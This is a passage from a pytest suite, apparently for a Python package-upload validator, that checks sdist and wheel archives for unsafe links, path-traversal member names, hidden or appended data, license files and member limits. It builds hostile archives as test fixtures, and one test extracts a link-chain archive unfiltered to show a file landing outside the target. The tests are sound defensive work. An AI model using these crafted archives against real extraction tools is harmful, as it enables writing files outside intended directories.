    "a hard link to a file outside": (
        [hard_link("x", "../outside")],
        f"Link '{TOP}/x' points outside the top-level directory (to '../outside').",
    ),
    "a hard link through a symbolic link": (
        [
            symlink("a/b/c/l1", "../../../d"),
            hard_link("x", f"{TOP}/a/b/c/l1/../../../../PKG-INFO"),
        ],
        f"Hard link '{TOP}/x' points to '{TOP}/a/b/c/l1/../../../../PKG-INFO', which is not "
        "an earlier file.",
    ),
    "a hard link to a symbolic link": (
        [symlink("x", "PKG-INFO"), hard_link("y", f"{TOP}/x")],
        f"Hard link '{TOP}/y' points to '{TOP}/x', which is not an earlier file.",
    ),
    "a link replacing a directory that has members": (
        [file("d/x.py"), symlink("d", "sub")],
        f"Member '{TOP}/d' is a file, and '{TOP}/d/x.py' uses the same path as a directory.",
    ),
    "a loop of links": (
        [symlink("a", "b"), symlink("b", "a")],
        f"Link '{TOP}/b' is part of a loop or of too long a chain of links.",
    ),
}


@pytest.mark.parametrize(("members", "message"), LINK_ATTACKS.values(), ids=list(LINK_ATTACKS))
def test_an_sdist_whose_links_lead_outside_once_followed_is_refused(tmp_path, members, message):
    path = sdist_with(tmp_path, *members)
    assert rejection(inspect_sdist, path) == INVALID + message


def test_an_sdist_with_more_links_to_follow_than_the_budget_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "_MAX_ARCHIVE_RESOLUTION_STEPS", 20)
    links = [symlink(f"l{index}", "a/b/c/PKG-INFO") for index in range(6)]
    assert rejection(inspect_sdist, sdist_with(tmp_path, *links)) == (
        f"{INVALID}The archive has too many links to follow (more than 20 steps)."
    )


def test_the_chain_of_links_attack_would_write_outside_the_target(tmp_path):
    """Why the rule exists: unpacking the chain with no filter writes beside the target."""
    path = sdist_with(tmp_path, *LINK_ATTACKS["a member written through a chain of links"][0])
    target = tmp_path / "unpacked" / "here"
    target.mkdir(parents=True)
    with tarfile.open(path) as archive:
        archive.extractall(target, filter="fully_trusted")  # noqa: S202 - the attack itself
    assert (tmp_path / "unpacked" / "pwned.txt").read_bytes() == b"pwned\n"


def test_links_that_stay_inside_once_followed_are_accepted(tmp_path):
    path = sdist_with(
        tmp_path,
        file("src/mod.py"),
        symlink("docs/src", "../src"),
        symlink("docs/mod.py", "src/mod.py"),
        symlink("a/b/c/l1", "../../../src"),
        symlink("x", "a/b/c/l1/../PKG-INFO"),
        hard_link("copy", f"{TOP}/src/mod.py"),
        symlink("later", "not/yet/there"),
    )
    assert inspect_sdist(path).members >= {f"{TOP}/docs/src", f"{TOP}/copy"}


def test_a_zip_sdist_with_a_link_is_refused(tmp_path):
    link = zipfile.ZipInfo(f"{TOP}/up")
    link.external_attr = (0o120777 << 16) | 0x20
    with zipfile.ZipFile(tmp_path / "example-1.0.zip", "w") as archive:
        archive.writestr(f"{TOP}/PKG-INFO", core_metadata("example", "1.0"))
        archive.writestr(link, "../..")
        archive.writestr(f"{TOP}/up/pwned.txt", "pwned")
    assert "is a symbolic link" in rejection(inspect_sdist, tmp_path / "example-1.0.zip")


def test_duplicate_tar_members_are_refused(tmp_path):
    path = sdist_with(tmp_path, tar_member(f"{TOP}/PKG-INFO", b"Name: evil\n"))
    assert rejection(inspect_sdist, path) == f"{INVALID}Duplicate member name '{TOP}/PKG-INFO'."


@pytest.mark.parametrize(
    "name", [f"{TOP}/../../evil.py", f"/{TOP}/evil.py", f"{TOP}/a\\b.py", f"{TOP}/./x"]
)
def test_unsafe_tar_member_paths_are_refused(tmp_path, name):
    path = sdist_with(tmp_path, tar_member(name, b""))
    assert rejection(inspect_sdist, path).startswith(f"{INVALID}Unsafe member path {name!r}: ")


def test_non_utf8_tar_member_name_is_refused(tmp_path):
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT, encoding="latin-1"
    ) as archive:
        for info, data in [
            tar_member(TOP, type=tarfile.DIRTYPE),
            tar_member(f"{TOP}/PKG-INFO", core_metadata("example", "1.0")),
            tar_member(f"{TOP}/café.py", b""),
        ]:
            archive.addfile(info, io.BytesIO(data))
    path = tmp_path / SDIST_NAME
    path.write_bytes(gzip.compress(buffer.getvalue()))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}Member name '{TOP}/caf\\udce9.py' is not valid UTF-8."
    )


def _plain_tar(members) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return buffer.getvalue()


def test_data_after_the_end_of_the_tar_is_refused(tmp_path):
    tar = _plain_tar(
        [
            tar_member(TOP, type=tarfile.DIRTYPE),
            tar_member(f"{TOP}/PKG-INFO", core_metadata("example", "1.0")),
        ]
    )
    path = tmp_path / SDIST_NAME
    path.write_bytes(gzip.compress(tar + b"hidden payload" + bytes(1000)))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}The tar archive has data after its last member."
    )


def test_members_hidden_behind_an_invalid_header_are_refused(tmp_path):
    # tarfile stops at a header it cannot parse and reports a clean end; other tools may read on.
    first = _plain_tar(
        [
            tar_member(TOP, type=tarfile.DIRTYPE),
            tar_member(f"{TOP}/PKG-INFO", core_metadata("example", "1.0")),
        ]
    )
    end_of_members = len(first) - len(first.rstrip(b"\0"))
    body = first[: len(first) - end_of_members + (-(len(first) - end_of_members)) % 512]
    hidden = _plain_tar([tar_member(f"{TOP}/hidden.py", b"import os")])
    path = tmp_path / SDIST_NAME
    path.write_bytes(gzip.compress(body + b"\xff" * 512 + hidden))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}The tar archive has data after its last member."
    )


def test_zip_appended_to_a_tar_gz_is_refused(tmp_path):
    sdist = make_sdist(tmp_path)
    wheel = make_wheel(tmp_path)
    sdist.write_bytes(sdist.read_bytes() + wheel.read_bytes())
    assert rejection(inspect_sdist, sdist) == f"{INVALID}File is both a zip and a tar file."


def test_zip_sdist_is_inspected_like_a_tar_sdist(tmp_path):
    path = write_zip(
        tmp_path / "example-1.0.zip",
        {f"{TOP}/PKG-INFO": core_metadata("example", "1.0"), f"{TOP}/setup.py": b""},
    )
    contents = inspect_sdist(path)
    assert contents.metadata_member == f"{TOP}/PKG-INFO"


def test_zip_sdist_with_a_file_beside_the_top_level_directory_is_refused(tmp_path):
    path = write_zip(
        tmp_path / "example-1.0.zip",
        {f"{TOP}/PKG-INFO": core_metadata("example", "1.0"), "setup.py": b""},
    )
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}Member 'setup.py' is a file outside the top-level directory."
    )


@pytest.mark.parametrize("seed", range(40))
def test_corrupted_sdists_are_refused_cleanly(tmp_path, seed):
    original = make_sdist(tmp_path, metadata={"Summary": "x" * 200})
    path = write_damaged_copy(tmp_path, original, seed, SDIST_NAME)
    assert outcome(inspect_sdist, path) in {"accepted", "rejected"}


# License files (rules 43 and 49) -------------------------------------------------------------


def test_wheel_license_files_are_found_under_licenses(tmp_path):
    path = make_wheel(tmp_path, extra_members={f"{DIST_INFO}/licenses/LICENSE": b"MIT"})
    check_license_files(inspect_wheel(path), ["LICENSE"], WHEEL_NAME)


def test_missing_wheel_license_file_is_refused(tmp_path):
    contents = inspect_wheel(make_wheel(tmp_path, extra_members={"LICENSE": b"MIT"}))
    with pytest.raises(UploadRejected) as excinfo:
        check_license_files(contents, ["LICENSE"], WHEEL_NAME)
    assert excinfo.value.message == (
        f"License-File LICENSE does not exist in distribution file {WHEEL_NAME} at "
        f"{DIST_INFO}/licenses/LICENSE"
    )


def test_sdist_license_files_are_found_under_the_top_level_directory(tmp_path):
    path = make_sdist(tmp_path, extra_members={"LICENSES/MIT.txt": b"MIT"})
    check_license_files(inspect_sdist(path), ["LICENSES/MIT.txt"], SDIST_NAME)


def test_missing_sdist_license_file_is_refused(tmp_path):
    contents = inspect_sdist(make_sdist(tmp_path))
    with pytest.raises(UploadRejected) as excinfo:
        check_license_files(contents, ["COPYING"], SDIST_NAME)
    assert excinfo.value.message == (
        f"License-File COPYING does not exist in distribution file {SDIST_NAME} at {TOP}/COPYING"
    )


def test_inspection_leaves_no_open_files(tmp_path):
    path = make_sdist(tmp_path)
    before = len(os.listdir("/proc/self/fd"))
    for _ in range(5):
        inspect_sdist(path)
        inspect_wheel(make_wheel(tmp_path))
    assert len(os.listdir("/proc/self/fd")) == before


# Member count --------------------------------------------------------------------------------


def test_wheel_with_too_many_members_is_refused_before_loading_them(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "MAX_MEMBERS", 4)
    path = make_wheel(tmp_path, extra_members={"example/extra.py": b""})
    assert rejection(inspect_wheel, path) == f"{INVALID}The archive has more than 4 members."


def test_sdist_with_too_many_members_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "MAX_MEMBERS", 4)
    path = make_sdist(tmp_path, extra_members={"extra.py": b""})
    assert rejection(inspect_sdist, path) == f"{INVALID}The archive has more than 4 members."


def test_zip64_member_count_is_read_from_the_zip64_end_record(tmp_path, monkeypatch):
    # zipfile writes ZIP64 end records past this many entries; the classic end record then
    # holds 0xFFFF and the real count is only in the ZIP64 record.
    monkeypatch.setattr(zipfile, "ZIP_FILECOUNT_LIMIT", 2)
    path = write_zip(tmp_path / "many.zip", {f"f{index}": b"" for index in range(5)})
    data = bytearray(path.read_bytes())
    end = data.rindex(b"PK\x05\x06")
    struct.pack_into("<2H", data, end + 8, 0xFFFF, 0xFFFF)
    path.write_bytes(bytes(data))
    assert archives._zip_end_records(path).member_count == 5
